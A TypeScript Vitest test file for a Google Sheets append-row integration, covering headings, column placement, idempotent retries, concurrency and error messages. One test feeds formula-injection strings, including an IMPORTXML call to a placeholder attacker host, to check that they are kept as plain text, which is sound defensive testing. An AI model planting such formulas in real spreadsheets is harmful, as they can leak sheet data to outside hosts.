import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { z } from "zod";
import { type ProviderTest, startProviderTest } from "#lib/providers/testing/provider-test.ts";
import { googleSheets } from "../provider.ts";
import { commands } from "../sandbox/commands.ts";
import { losingFirstReply } from "../testing/lose-replies.ts";

const orders = "1patchbaySandboxOrdersSpreadsheet00000000001";
const hidden = "1patchbaySandboxStaffRotaSpreadsheet00000002";

const anyRow = z.object({ cells: z.array(z.unknown()) });

let shop: ProviderTest;
beforeAll(async () => {
  shop = await startProviderTest(googleSheets);
});
afterAll(() => shop.stop());

/** A spreadsheet of its own; its first row holds the headings. */
async function make(headings: readonly string[] = ["Date", "Total"], sheet = "Orders"): Promise<string> {
  const made = await shop.run("create-spreadsheet", { title: "Test", sheet, headings });
  return String(made.spreadsheet);
}

/** One that has nothing in it, not even headings. */
async function makeEmpty(): Promise<string> {
  const id = await make(["gone"]);
  await shop.context.store.remove("row", `${id}/0/1`);
  return id;
}

async function fill(spreadsheet: string, rows: readonly (readonly (string | number | null)[])[]) {
  for (const [index, cells] of rows.entries()) {
    await shop.context.store.put("row", `${spreadsheet}/0/${index + 1}`, { cells });
  }
}

async function readRows(spreadsheet: string): Promise<unknown> {
  return (await shop.run("get-values", { spreadsheet })).rows;
}

function append(spreadsheet: string, values: readonly string[], idempotencyKey: string, more = {}) {
  return shop.run("append-row", { spreadsheet, values, ...more }, { idempotencyKey });
}

describe("the first row", () => {
  test("gets a last column with the delivery's id, and the rows stand below the headings", async () => {
    const id = await make();
    expect(await append(id, ["Mon", "12.50"], "dlv_1")).toMatchObject({
      sheet: "Orders",
      row: 2,
      wasThere: false,
    });
    expect(await append(id, ["Tue", "8"], "dlv_2")).toMatchObject({ row: 3 });
    expect(await readRows(id)).toEqual([
      ["Date", "Total", "Patchbay id"],
      ["Mon", "12.5", "dlv_1"],
      ["Tue", "8", "dlv_2"],
    ]);
  });

  test("in an empty tab makes headings, and begins in column A", async () => {
    const id = await makeEmpty();
    expect(await append(id, ["Mon", "12"], "dlv_1")).toMatchObject({ row: 2 });
    expect(await readRows(id)).toEqual([
      ["Column A", "Column B", "Patchbay id"],
      ["Mon", "12", "dlv_1"],
    ]);
  });

  test("stays out of columns that hold something under no heading", async () => {
    const id = await makeEmpty();
    await fill(id, [["Date"], ["Mon", null, "a note"]]);
    await append(id, ["Tue"], "dlv_1");
    expect(await readRows(id)).toEqual([
      ["Date", "Column B", "Column C", "Patchbay id"],
      ["Mon", "", "a note"],
      ["Tue", "", "", "dlv_1"],
    ]);
  });

  test("does not slip to the right of a gap in the headings", async () => {
    const id = await makeEmpty();
    await fill(id, [["Date", "", "Total"]]);
    await append(id, ["Mon", "2 soups", "9"], "dlv_1");
    await append(id, ["Tue", "", "7"], "dlv_2");
    expect(await readRows(id)).toEqual([
      ["Date", "Column B", "Total", "Patchbay id"],
      ["Mon", "2 soups", "9", "dlv_1"],
      ["Tue", "", "7", "dlv_2"],
    ]);
  });

  test("makes a tab wider that is too narrow for it", async () => {
    const id = await make(Array.from({ length: 25 }, (_, column) => `Heading ${column}`));
    const values = Array.from({ length: 40 }, (_, column) => `Value ${column}`);
    await append(id, values, "dlv_1");
    expect(await append(id, values, "dlv_1")).toMatchObject({ row: 2, wasThere: true });
    expect(await shop.run("list-sheets", { spreadsheet: id })).toMatchObject({ sheets: [{ columns: 41 }] });
  });
});

describe("a row", () => {
  test("goes above what stands further down, and moves that", async () => {
    const id = await makeEmpty();
    await fill(id, [["Date"], ["Mon"], [], ["Sum", 1]]);
    await append(id, ["Tue"], "dlv_1");
    expect(await readRows(id)).toEqual([
      ["Date", "Column B", "Patchbay id"],
      ["Mon"],
      ["Tue", "", "dlv_1"],
      [],
      ["Sum", "1"],
    ]);
  });

  test("goes round the column for ids where the merchant moved it", async () => {
    const id = await makeEmpty();
    await fill(id, [["Patchbay id", "Date", "Total"]]);
    await append(id, ["Mon", "9", "left over"], "dlv_1");
    expect(await readRows(id)).toEqual([
      ["Patchbay id", "Date", "Total"],
      ["dlv_1", "Mon", "9", "left over"],
    ]);
    expect(await append(id, ["Mon", "9"], "dlv_1")).toMatchObject({ row: 2, wasThere: true });
  });

  test.each(['=IMPORTXML("https://evil.example","//a")', "+1+1", "@SUM(A1)", "'quoted", "-2+3"])(
    "keeps %s as the text that it is",
    async (text) => {
      const id = await make();
      await append(id, [text], "dlv_1");
      const row = await shop.context.store.list("row", anyRow);
      expect(row.find((each) => each.id === `${id}/0/2`)?.data.cells[0]).toBe(text);
    },
  );

  test("holds numbers that can be added up, unless texts are asked for", async () => {
    const id = await make();
    await append(id, ["007", "12.50"], "dlv_1");
    await append(id, ["007", "12.50"], "dlv_2", { keepAsText: true });
    const rows = await shop.context.store.list("row", anyRow);
    const getFirstCells = (row: number) =>
      rows.find((each) => each.id === `${id}/0/${row}`)?.data.cells.slice(0, 2);
    expect(getFirstCells(2)).toEqual(["007", 12.5]);
    expect(getFirstCells(3)).toEqual(["007", "12.50"]);
  });
});

describe("once", () => {
  test.each([
    ["the row itself", (request: Request) => request.url.includes(":append")],
    ["the headings", (request: Request) => request.method === "PUT"],
  ])("a lost answer to %s leaves one row, however often it is repeated", async (_, isLost) => {
    const id = await make();
    const action = googleSheets.actions["append-row"];
    const input = { spreadsheet: id, values: ["Mon", "9"] };
    const call = losingFirstReply(shop.call({ idempotencyKey: "dlv_lost" }), isLost);
    await expect(action.run(call, input)).rejects.toMatchObject({ kind: "unavailable" });
    await action.run(call, input);
    expect(await action.run(call, input)).toMatchObject({ row: 2, wasThere: true });
    expect(await readRows(id)).toEqual([
      ["Date", "Total", "Patchbay id"],
      ["Mon", "9", "dlv_lost"],
    ]);
  });

  test("a row is found again after the merchant sorted the tab", async () => {
    const id = await make();
    await append(id, ["Mon", "9"], "dlv_1");
    await append(id, ["Tue", "7"], "dlv_2");
    await fill(id, [
      ["Date", "Total", "Patchbay id"],
      ["Tue", 7, "dlv_2"],
      ["Mon", 9, "dlv_1"],
    ]);
    expect(await append(id, ["Mon", "9"], "dlv_1")).toMatchObject({ row: 3, wasThere: true });
  });

  test("rows that come at the same moment all stand there", async () => {
    const id = await make();
    await append(id, ["first", "0"], "dlv_0");
    const keys = Array.from({ length: 8 }, (_, number) => `dlv_at_once_${number}`);
    const rows = await Promise.all(keys.map((key) => append(id, [key, "1"], key)));
    expect(new Set(rows.map(({ row }) => row))).toEqual(new Set([3, 4, 5, 6, 7, 8, 9, 10]));
  });
});

describe("what is wrong is told in words", () => {
  test("a tab that is not there, with those that are", async () => {
    await expect(append(orders, ["a"], "dlv_1", { sheet: "Ordres" })).rejects.toMatchObject({
      kind: "invalid_input",
      message: "The spreadsheet has no tab called Ordres. It has: Orders, Stock. Choose one of these.",
    });
  });

  test("a tab that was renamed", async () => {
    const id = await make();
    const other = await startProviderTest(googleSheets);
    await other.run("append-row", { spreadsheet: orders, sheet: "Orders", values: ["a"] });
    expect(await commands["rename-tab"].run(other.context)).toContain("Orders (old)");
    await expect(
      other.run("append-row", { spreadsheet: orders, sheet: "Orders", values: ["a"] }),
    ).rejects.toMatchObject({ message: expect.stringContaining("Orders (old), Stock") });
    await other.stop();
    expect(await append(id, ["a"], "dlv_1")).toMatchObject({ row: 2 });
  });

  test.each([
    ["that Google hides from Patchbay", hidden],
    ["that does not exist", "1noSuchSpreadsheetAtAll0000000000000000000000"],
  ])("a spreadsheet %s", async (_, id) => {
    await expect(append(id, ["a"], "dlv_1")).rejects.toMatchObject({
      kind: "not_found",
      message: expect.stringContaining("Patchbay sees only spreadsheets that it made"),
    });
  });
});
